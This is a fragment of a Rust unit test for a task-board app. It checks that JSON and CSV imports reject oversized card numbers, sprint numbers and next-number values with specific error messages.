            let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
            v["cards"][0]["number"] = serde_json::json!(big);
            v["cards"][0]["key"] = serde_json::json!(format!("SHP-{big}"));
            let e = import_json(&b, &v.to_string()).unwrap_err();
            assert!(e.why.contains("larger than a board's largest"), "{big}: {e}");
            let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
            v["sprints"][0]["number"] = serde_json::json!(big);
            v["cards"][0]["sprint"] = serde_json::json!(big);
            v["cards"][2]["sprint"] = serde_json::json!(big);
            assert!(import_json(&b, &v.to_string()).is_err(), "sprint {big}");
            if big > super::super::ops::MAX_NUMBER + 1 {
                let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
                v["board"]["nextNumber"] = serde_json::json!(big);
                assert!(import_json(&b, &v.to_string()).is_err(), "next number {big}");
            }
            let e = import_csv(&b, &format!("Issue key,Summary\nSHP-{big},A\n"), 9).unwrap_err();
            assert!(e.why.contains("is not a key like SLP-12"), "{e}");
        }
    }
}
